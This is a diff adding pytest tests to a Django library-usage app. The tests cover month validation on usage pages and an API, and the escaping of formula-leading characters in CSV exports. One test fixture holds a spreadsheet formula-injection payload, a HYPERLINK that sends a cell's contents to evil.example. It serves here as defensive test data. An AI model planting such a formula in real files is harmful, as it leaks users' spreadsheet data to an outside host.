@@ -213,3 +213,49 @@ def test_record_page_from_off_site_shows_the_reason(client, record, make_resourc
     assert "Only available inside the library" in text and "Ask for help" in text
     text = client.get(f"/record/{record.pk}/", REMOTE_ADDR="10.1.1.1").content.decode()
     assert "Only available inside the library" not in text
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["first=0000-01", "last=9999-12", "first=0000-01&last=9999-12", "first=2026-13", "last=2026-00", "first=%00"],
+)
+def test_usage_page_treats_impossible_months_as_bad_months(client, librarian, usage_events, query):
+    client.force_login(librarian)
+    response = client.get(f"/staff/digital/usage/?{query}")
+    assert response.status_code == 200
+    this_month = timezone.localdate().replace(day=1)
+    assert response.context["last"] == this_month  # the default period
+    assert client.get(f"/staff/digital/usage/tr_b1.csv?{query}").status_code == 200
+
+
+def test_usage_api_refuses_impossible_months(client, it_manager):
+    client.force_login(it_manager)
+    for query in ("last=9999-12", "first=0000-01", "first=1899-12"):
+        assert client.get(f"/api/v1/usage?{query}").status_code == 400, query
+
+
+def test_counter_csv_cells_are_never_formulas(client, it_manager, usage_events):
+    resource, _quiet = usage_events
+    record = resource.record
+    record.title = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    record.publisher = "+62 Penerbit"
+    record.save()
+    resource.remote_url = "https://jurnal.example/-1"
+    resource.save()
+    client.force_login(it_manager)
+    text = client.get("/staff/digital/usage/tr_b1.csv?first=2026-03&last=2026-04").content.decode("utf-8")
+    _head, _header, rows = _rows(text)
+    row = rows[0]
+    assert row[0] == "'" + record.title
+    assert row[1] == "'+62 Penerbit"
+    assert row[9] == "https://jurnal.example/-1"  # only a leading character counts
+    assert row[-3:] == ["4", "3", "1"]  # numbers stay numbers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_quoted(start):
+    from pustaka.digital.queries_usage import safe_cell
+
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+    assert safe_cell("Judul biasa") == "Judul biasa"
+    assert safe_cell(-5) == -5
